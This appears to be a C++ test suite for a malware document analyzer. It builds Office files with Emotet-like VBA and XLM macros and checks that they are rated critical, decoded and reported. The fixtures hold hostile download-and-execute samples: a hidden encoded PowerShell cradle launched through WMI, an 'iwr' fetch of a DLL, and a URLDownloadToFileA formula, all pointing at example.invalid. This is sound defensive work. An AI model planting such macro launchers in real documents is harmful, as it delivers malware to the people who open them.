// Tests the document analyzer through the Engine on built Office files: an Emotet-like macro is
// critical with its decoded PowerShell, a benign one stays low, hidden modules, options, OOXML and
// PowerPoint nesting, padded files, and damaged VBA projects reported as anomalies.
#include <gtest/gtest.h>

#include <zlib.h>

#include <algorithm>
#include <memory>
#include <string>
#include <vector>

#include "analyzers/document/document.hpp"
#include "analyzers/engine/engine.hpp"
#include "emoguard/sink.hpp"
#include "emoguard/text.hpp"
#include "known_bugs.hpp"
#include "office_builders.hpp"

namespace emoguard::analyzers::document {
namespace {

using namespace emoguard::testing;
using Record = BufferSink::Record;

const std::string kStage2 = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/stage2')";

std::string emotet_like_source() {
  const std::string u16 = utf8_to_utf16le(kStage2);
  const std::string b64 = text::base64_encode(ByteView(std::string_view(u16)));
  return "Attribute VB_Name = \"Module1\"\r\n"
         "Sub Document_Open()\r\n"
         "    Dim cmd As String\r\n"
         "    cmd = \"powershell -w hidden -enc \" & \"" + b64 + "\"\r\n"
         "    Set wmi = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\r\n"
         "    wmi.Create cmd, Null, Null, pid\r\n"
         "End Sub\r\n";
}

// Starts PowerShell through WMI from AutoOpen, with no encoded layer.
const std::string kLauncherSource =
    "Attribute VB_Name = \"Module1\"\r\n"
    "Sub AutoOpen()\r\n"
    "    Set p = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\r\n"
    "    p.Create \"powershell -nop -c \"\"iwr http://example.invalid/a -OutFile $env:TEMP\\a.dll\"\"\", Null, Null, pid\r\n"
    "End Sub\r\n";

const std::string kBenignSource =
    "Attribute VB_Name = \"ThisWorkbook\"\r\n"
    "Private Sub Workbook_Open()\r\n"
    "    Dim fso\r\n"
    "    Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n"
    "    If fso.FolderExists(\"C:\\Reports\") Then MsgBox \"ready\"\r\n"
    "End Sub\r\n";

// A Word-like .doc: WordDocument + Macros/{PROJECT, PROJECTwm, VBA/...}.
std::string word_doc(const std::vector<VbaModuleSpec>& modules) {
  CfbBuilder b;
  b.add_stream(CfbBuilder::kRoot, "WordDocument", random_text(5000, 42));
  b.add_stream(CfbBuilder::kRoot, "1Table", random_text(700, 43));
  if (!modules.empty()) add_vba_project(b, b.add_storage(CfbBuilder::kRoot, "Macros"), modules);
  return b.build();
}
std::string vba_project_bin(const std::vector<VbaModuleSpec>& modules) {
  CfbBuilder b;
  add_vba_project(b, CfbBuilder::kRoot, modules);
  return b.build();
}

struct Scan {
  std::unique_ptr<BufferSink> sink = std::make_unique<BufferSink>();
  ScanResult result;

  [[nodiscard]] std::vector<const Finding*> findings(std::string_view rule = {}) const {
    std::vector<const Finding*> out;
    for (const auto& r : sink->records()) {
      if (r.kind == Record::kFinding && (rule.empty() || r.finding.rule.id == rule)) out.push_back(&r.finding);
    }
    return out;
  }
  [[nodiscard]] std::vector<const Anomaly*> anomalies(std::string_view code = {}) const {
    std::vector<const Anomaly*> out;
    for (const auto& r : sink->records()) {
      if (r.kind == Record::kAnomaly && (code.empty() || r.anomaly.code == code)) out.push_back(&r.anomaly);
    }
    return out;
  }
  [[nodiscard]] std::size_t errors() const {
    return static_cast<std::size_t>(std::count_if(sink->records().begin(), sink->records().end(), [](const Record& r) { return r.kind == Record::kError; }));
  }
  [[nodiscard]] std::string dump() const {
    std::string s;
    for (const auto& r : sink->records()) {
      if (r.kind == Record::kFinding) s += "finding " + r.finding.rule.id + " " + std::string(to_string(r.finding.severity)) + " @ " + r.finding.object.str() + "\n";
      if (r.kind == Record::kAnomaly) s += "anomaly " + r.anomaly.code + " @ " + r.anomaly.object.str() + ": " + r.anomaly.message.en + "\n";
      if (r.kind == Record::kError) s += "error " + r.error.message.en + "\n";
    }
    return s;
  }
};

Scan scan(const std::string& bytes, Options options = {}, const Limits& limits = {}) {
  Registry reg;
  reg.add(make_analyzer(std::move(options)));
  const Engine engine(reg, limits);
  Scan s;
  s.result = engine.scan(view(bytes), "file", ObjectPath{{"file"}}, *s.sink);
  return s;
}

std::vector<std::string> evidence(const Finding& f, std::string_view key) {
  std::vector<std::string> out;
  for (const auto& e : f.evidence) {
    if (e.key == key) out.push_back(e.value);
  }
  return out;
}
bool any_contains(const std::vector<std::string>& v, std::string_view needle) {
  return std::any_of(v.begin(), v.end(), [&](const std::string& s) { return s.find(needle) != std::string::npos; });
}

// ------------------------------------------------------------------ verdicts

TEST(DocumentAnalyzer, EmotetLikeMacroIsCritical) {
  ASSERT_FALSE(deobfuscate_layer_crashes()) << kLayerBug;
  const Scan s = scan(word_doc({{"Module1", emotet_like_source()}}));
  EXPECT_EQ(s.result.detection.type, ContentType::ole2);
  EXPECT_TRUE(s.result.analysed);
  EXPECT_TRUE(s.anomalies().empty()) << s.dump();
  EXPECT_EQ(s.errors(), 0u) << s.dump();
  const auto all = s.findings();
  ASSERT_EQ(all.size(), 1u) << s.dump();
  const Finding& f = *all[0];
  EXPECT_EQ(f.analyzer, "document");
  EXPECT_EQ(f.rule.id, "document.vba_suspicious");
  EXPECT_EQ(f.severity, Severity::critical);
  EXPECT_EQ(f.object.str(), "file > Macros/VBA");
  EXPECT_EQ(f.attack, "T1059.001");
  const auto decoded = evidence(f, "decoded.PowerShell -EncodedCommand");
  ASSERT_EQ(decoded.size(), 1u);
  EXPECT_EQ(decoded[0], kStage2);
  EXPECT_TRUE(any_contains(decoded, "example.invalid"));
  EXPECT_EQ(evidence(f, "modules"), std::vector<std::string>{"1"});
  EXPECT_EQ(evidence(f, "module"), std::vector<std::string>{"Macros/VBA/Module1"});
  EXPECT_EQ(evidence(f, "code_page"), std::vector<std::string>{"1252"});
  EXPECT_EQ(evidence(f, "mraptor_flags"), std::vector<std::string>{"A-X"});
  EXPECT_TRUE(any_contains(evidence(f, "ioc.url"), "http://example.invalid/stage2"));
  EXPECT_TRUE(any_contains(evidence(f, "keyword.wmi"), "Win32_Process"));
  EXPECT_TRUE(any_contains(evidence(f, "keyword.autoexec"), "Document_Open"));
  EXPECT_TRUE(evidence(f, "hidden_module").empty());
}

TEST(DocumentAnalyzer, WmiPowerShellLauncherIsCritical) {
  const Scan s = scan(word_doc({{"Module1", kLauncherSource}}));
  EXPECT_TRUE(s.anomalies().empty()) << s.dump();
  const auto all = s.findings();
  ASSERT_EQ(all.size(), 1u) << s.dump();
  EXPECT_EQ(all[0]->rule.id, "document.vba_suspicious");
  EXPECT_EQ(all[0]->severity, Severity::critical);
  EXPECT_TRUE(any_contains(evidence(*all[0], "ioc.url"), "http://example.invalid/a"));
  EXPECT_TRUE(any_contains(evidence(*all[0], "ioc.executable"), "a.dll"));
  EXPECT_EQ(evidence(*all[0], "mraptor_flags"), std::vector<std::string>{"A-X"});
}

TEST(DocumentAnalyzer, EncodedCommandInALiteralIsDecoded) {
  const std::string u16 = utf8_to_utf16le(kStage2);
  const std::string src = "Sub Document_Open()\r\n    CreateObject(\"WScript.Shell\").Run \"powershell -enc " +
                          text::base64_encode(ByteView(std::string_view(u16))) + "\", 0\r\nEnd Sub\r\n";
  const Scan s = scan(word_doc({{"Module1", src}}));
  const auto all = s.findings("document.vba_suspicious");
  ASSERT_EQ(all.size(), 1u) << s.dump();
  EXPECT_EQ(all[0]->severity, Severity::critical);
  EXPECT_EQ(evidence(*all[0], "decoded.PowerShell -EncodedCommand"), std::vector<std::string>{kStage2});
}

TEST(DocumentAnalyzer, BenignMacroStaysLow) {
  CfbBuilder b;
  b.add_stream(CfbBuilder::kRoot, "Workbook", workbook({{"Sheet1", 0, 0, 0x0010, {}}}, {}));
  add_vba_project(b, b.add_storage(CfbBuilder::kRoot, "_VBA_PROJECT_CUR"), {{"ThisWorkbook", kBenignSource, false}});
  const Scan s = scan(b.build());
  const auto all = s.findings();
  ASSERT_EQ(all.size(), 1u) << s.dump();
  EXPECT_LE(all[0]->severity, Severity::low) << s.dump();
  EXPECT_EQ(all[0]->severity, Severity::low);  // auto-exec alone
  EXPECT_EQ(all[0]->object.str(), "file > _VBA_PROJECT_CUR/VBA");
  EXPECT_TRUE(s.anomalies().empty()) << s.dump();
}

TEST(DocumentAnalyzer, PlainMacroIsInfo) {
  const Scan s = scan(word_doc({{"Module1", "Attribute VB_Name = \"Module1\"\r\nSub Tidy()\r\n  x = 1\r\nEnd Sub\r\n"}}));
  const auto all = s.findings();
  ASSERT_EQ(all.size(), 1u) << s.dump();
  EXPECT_EQ(all[0]->rule.id, "document.vba_macros");
  EXPECT_EQ(all[0]->severity, Severity::info);
}

TEST(DocumentAnalyzer, NoVbaNoFinding) {
  const Scan s = scan(word_doc({}));
  EXPECT_EQ(s.result.detection.type, ContentType::ole2);
  EXPECT_TRUE(s.findings().empty()) << s.dump();
  EXPECT_TRUE(s.anomalies().empty()) << s.dump();
}

TEST(DocumentAnalyzer, ModuleMissingFromProjectIsHidden) {
  const Scan s = scan(word_doc({{"Module1", "Sub A()\r\nEnd Sub\r\n"}, {"Module2", "Sub B()\r\nEnd Sub\r\n", true, false}}));
  const auto hidden = s.findings("document.vba_hidden_module");
  ASSERT_EQ(hidden.size(), 1u) << s.dump();
  EXPECT_EQ(hidden[0]->severity, Severity::medium);
  EXPECT_EQ(hidden[0]->object.str(), "file > Macros/VBA");
  EXPECT_EQ(evidence(*hidden[0], "module"), std::vector<std::string>{"Module2"});
  const auto main = s.findings("document.vba_macros");
  ASSERT_EQ(main.size(), 1u);
  EXPECT_EQ(evidence(*main[0], "hidden_module"), std::vector<std::string>{"Module2"});
  // Listed modules are not hidden.
  EXPECT_TRUE(scan(word_doc({{"Module1", "Sub A()\r\nEnd Sub\r\n"}})).findings("document.vba_hidden_module").empty());
}

TEST(DocumentAnalyzer, OnModuleReceivesEachModule) {
  struct Seen {
    std::string path, name, source;
    bool procedural;
  };
  std::vector<Seen> seen;
  Options o;
  o.on_module = [&](const ObjectPath& p, const std::string& name, bool procedural, const std::string& source) {
    seen.push_back({p.str(), name, source, procedural});
  };
  const std::string long_source = "Sub Big()\r\n" + random_text(9000, 77) + "\r\nEnd Sub\r\n";  // several chunks
  const Scan s = scan(word_doc({{"Module1", "Sub A()\r\nEnd Sub\r\n"}, {"ThisDocument", long_source, false}}), o);
  ASSERT_EQ(seen.size(), 2u) << s.dump();
  EXPECT_EQ(seen[0].path, "file > Macros/VBA > Module1");
  EXPECT_EQ(seen[0].name, "Module1");
  EXPECT_TRUE(seen[0].procedural);
  EXPECT_EQ(seen[0].source, "Sub A()\r\nEnd Sub\r\n");
  EXPECT_EQ(seen[1].path, "file > Macros/VBA > ThisDocument");
  EXPECT_EQ(seen[1].name, "ThisDocument");
  EXPECT_FALSE(seen[1].procedural);
  EXPECT_EQ(seen[1].source, long_source);
}

TEST(DocumentAnalyzer, MraptorOption) {
  Options o;
  o.mraptor = true;
  const Scan s = scan(word_doc({{"Module1", kLauncherSource}}), o);
  const auto m = s.findings("document.mraptor");
  ASSERT_EQ(m.size(), 1u) << s.dump();
  EXPECT_EQ(m[0]->severity, Severity::info);
  EXPECT_EQ(evidence(*m[0], "flags"), std::vector<std::string>{"A-X"});
  EXPECT_EQ(evidence(*m[0], "verdict"), std::vector<std::string>{"SUSPICIOUS"});
  // Without the option there is no mraptor finding.
  EXPECT_TRUE(scan(word_doc({{"Module1", kLauncherSource}})).findings("document.mraptor").empty());
  // A benign macro gets its flags and "Macro OK".
  const Scan b = scan(word_doc({{"Module1", kBenignSource}}), o);
  const auto mb = b.findings("document.mraptor");
  ASSERT_EQ(mb.size(), 1u);
  EXPECT_EQ(evidence(*mb[0], "flags"), std::vector<std::string>{"A-X"});  // CreateObject is X for mraptor
  EXPECT_EQ(evidence(*mb[0], "verdict"), std::vector<std::string>{"SUSPICIOUS"});
  const Scan p = scan(word_doc({{"Module1", "Sub A()\r\nEnd Sub\r\n"}}), o);
  const auto mp = p.findings("document.mraptor");
  ASSERT_EQ(mp.size(), 1u);
  EXPECT_EQ(evidence(*mp[0], "flags"), std::vector<std::string>{"---"});
  EXPECT_EQ(evidence(*mp[0], "verdict"), std::vector<std::string>{"Macro OK"});
}

// ------------------------------------------------------------------ containers

TEST(DocumentAnalyzer, VbaProjectInsideOoxml) {
  std::vector<ZipEntry> z(3);
  z[0].name = "[Content_Types].xml";
  z[0].data = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
  z[1].name = "word/document.xml";
  z[1].data = "<w:document/>";
  z[1].deflate = true;
  z[2].name = "word/vbaProject.bin";
  z[2].data = vba_project_bin({{"Module1", kLauncherSource}});
  z[2].deflate = true;
  const Scan s = scan(build_zip(z));
  EXPECT_EQ(s.result.detection.type, ContentType::ooxml);
  const auto all = s.findings("document.vba_suspicious");
  ASSERT_EQ(all.size(), 1u) << s.dump();
  EXPECT_EQ(all[0]->object.str(), "file > word/vbaProject.bin > VBA");
  EXPECT_EQ(all[0]->severity, Severity::critical);
  EXPECT_EQ(evidence(*all[0], "module"), std::vector<std::string>{"VBA/Module1"});
  EXPECT_TRUE(s.anomalies().empty()) << s.dump();
}

TEST(DocumentAnalyzer, VbaProjectInsidePowerPoint) {
  const std::string storage = vba_project_bin({{"Module1", kLauncherSource}});
  uLongf len = compressBound(static_cast<uLong>(storage.size()));
  std::string z(len, '\0');
  ASSERT_EQ(compress2(reinterpret_cast<Bytef*>(z.data()), &len, reinterpret_cast<const Bytef*>(storage.data()), static_cast<uLong>(storage.size()), 6), Z_OK);
  z.resize(len);
  std::string stream = random_text(200, 5);
  const std::size_t at = stream.size();
  app16(stream, 0x0010);
  app16(stream, 0x1011);
  app32(stream, static_cast<std::uint32_t>(z.size() + 4));
  app32(stream, static_cast<std::uint32_t>(storage.size()));
  stream += z;
  CfbBuilder b;
  b.add_stream(CfbBuilder::kRoot, "PowerPoint Document", stream);
  b.add_stream(CfbBuilder::kRoot, "Current User", random_text(60, 6));
  const Scan s = scan(b.build());
  const auto all = s.findings("document.vba_suspicious");
  ASSERT_EQ(all.size(), 1u) << s.dump();
  EXPECT_EQ(all[0]->object.str(), "file > PowerPoint Document/ExOleObjStg@" + std::to_string(at) + " > VBA");
  EXPECT_EQ(all[0]->severity, Severity::critical);
}

TEST(DocumentAnalyzer, PaddedDocument) {
  std::string f = word_doc({{"Module1", kLauncherSource}});
  const std::size_t used = f.size();
  constexpr std::size_t kPad = 20U << 20;
  f.resize(used + kPad, '\0');
  const Scan s = scan(f);
  const auto padded = s.findings("document.padded");
  ASSERT_EQ(padded.size(), 1u) << s.dump();
  EXPECT_EQ(padded[0]->severity, Severity::medium);
  EXPECT_EQ(padded[0]->object.str(), "file");
  EXPECT_EQ(evidence(*padded[0], "padding_bytes"), std::vector<std::string>{std::to_string(kPad)});
  EXPECT_EQ(evidence(*padded[0], "used_bytes"), std::vector<std::string>{std::to_string(used)});
  EXPECT_EQ(evidence(*padded[0], "padding"), std::vector<std::string>{"zero bytes (sampled)"});
  // The macro is still found behind the padding.
  ASSERT_EQ(s.findings("document.vba_suspicious").size(), 1u);
  EXPECT_EQ(s.findings("document.vba_suspicious")[0]->severity, Severity::critical);
}

TEST(DocumentAnalyzer, SmallTailIsNotPadding) {
  std::string f = word_doc({{"Module1", "Sub A()\r\nEnd Sub\r\n"}});
  f.append(512 * 4, '\0');
  EXPECT_TRUE(scan(f).findings("document.padded").empty());
}

TEST(DocumentAnalyzer, XlmDownloaderInAnXls) {
  CfbBuilder b;
  b.add_stream(CfbBuilder::kRoot, "Workbook", xlm_downloader_workbook());
  const Scan s = scan(b.build());
  EXPECT_TRUE(s.anomalies().empty()) << s.dump();
  const auto all = s.findings("document.xlm_suspicious");
  ASSERT_EQ(all.size(), 1u) << s.dump();
  EXPECT_EQ(all[0]->severity, Severity::critical);
  EXPECT_EQ(all[0]->object.str(), "file > Workbook");
  EXPECT_EQ(evidence(*all[0], "auto_run"), std::vector<std::string>{"Auto_Open -> Macro1!$A$1"});
  EXPECT_EQ(evidence(*all[0], "macro_sheet"), std::vector<std::string>{"Macro1 (veryHidden, 4 formulas)"});
  EXPECT_TRUE(any_contains(evidence(*all[0], "formula"), "=CALL(\"urlmon\",\"URLDownloadToFileA\""));
  EXPECT_TRUE(any_contains(evidence(*all[0], "ioc.url"), "http://example.invalid/x"));
}

// ------------------------------------------------------------------ damage

TEST(DocumentAnalyzer, MissingModuleStreamIsAnAnomaly) {
  VbaModuleSpec ghost("Ghost", "");
  ghost.has_stream = false;
  const Scan s = scan(word_doc({{"Module1", kLauncherSource}, ghost}));
  const auto a = s.anomalies("ovba.module_stream_missing");
  ASSERT_EQ(a.size(), 1u) << s.dump();
  EXPECT_EQ(a[0]->object.str(), "file > Macros/VBA > Ghost");
  ASSERT_EQ(s.findings("document.vba_suspicious").size(), 1u);  // the other module is still analysed
}

TEST(DocumentAnalyzer, TextOffsetBeyondTheStreamIsAnAnomaly) {
  VbaModuleSpec m("Module1", "Sub A()\r\nEnd Sub\r\n");
  m.dir_offset = 100000;
  const Scan s = scan(word_doc({m}));
  EXPECT_EQ(s.anomalies("ovba.bad_text_offset").size(), 1u) << s.dump();
}

TEST(DocumentAnalyzer, CorruptDirIsReportedNotFatal) {
  CfbBuilder b;
  const auto macros = b.add_storage(CfbBuilder::kRoot, "Macros");
  b.add_stream(macros, "PROJECT", "Module=Module1\r\n");
  const auto vba = b.add_storage(macros, "VBA");
  b.add_stream(vba, "dir", "\x02 this is not a compressed container");
  b.add_stream(vba, "Module1", module_stream("Sub A()\r\nEnd Sub\r\n"));
  const Scan s = scan(b.build());
  EXPECT_EQ(s.anomalies("ovba.bad_signature").size(), 1u) << s.dump();
  EXPECT_EQ(s.errors(), 0u);
}

TEST(DocumentAnalyzer, DamagedCompoundFileIsAnAnomaly) {
  std::string f = word_doc({{"Module1", kLauncherSource}});
  put16(f, 0x1E, 7);  // unusable sector shift
  const Scan s = scan(f);
  EXPECT_EQ(s.anomalies("cfb.unreadable").size(), 1u) << s.dump();
  EXPECT_TRUE(s.findings().empty());
  EXPECT_EQ(s.errors(), 0u);
}

TEST(DocumentAnalyzer, RandomDamageNeverThrows) {
  const std::string base = word_doc({{"Module1", kLauncherSource}, {"Module2", kBenignSource}});
  std::uint32_t x = 4242;
  for (int round = 0; round < 150; ++round) {
    std::string f = base;
    for (int k = 0; k < 6; ++k) {
      x = x * 1103515245 + 12345;
      f[8 + (x >> 8) % (f.size() - 8)] = static_cast<char>(x >> 20);
    }
    const Scan s = scan(f);
    EXPECT_EQ(s.errors(), 0u) << "round " << round << "\n" << s.dump();  // an escaping exception becomes an error record
  }
}

TEST(DocumentAnalyzer, VbaStorageWithoutDirIsAnAnomalyNotASilentPass) {
  CfbBuilder b;
  const auto macros = b.add_storage(CfbBuilder::kRoot, "Macros");
  const auto vba = b.add_storage(macros, "VBA");
  b.add_stream(vba, "_VBA_PROJECT", std::string("\xCC\x61\xFF\xFF\x00\x03\x00", 7));
  b.add_stream(vba, "Module1", "Attribute VB_Name = \"Module1\"\r\n");
  b.add_stream(macros, "PROJECT", "Module=Module1\r\n");
  b.add_stream(CfbBuilder::kRoot, "WordDocument", std::string(512, '\0'));
  const Scan s = scan(b.build());
  const auto a = s.anomalies();
  ASSERT_EQ(a.size(), 1u) << s.dump();
  EXPECT_EQ(a[0]->code, "ovba.no_dir_stream");
  EXPECT_EQ(a[0]->object.str(), "file > Macros/VBA");
  EXPECT_TRUE(s.findings().empty()) << s.dump();
}

}  // namespace
}  // namespace emoguard::analyzers::document
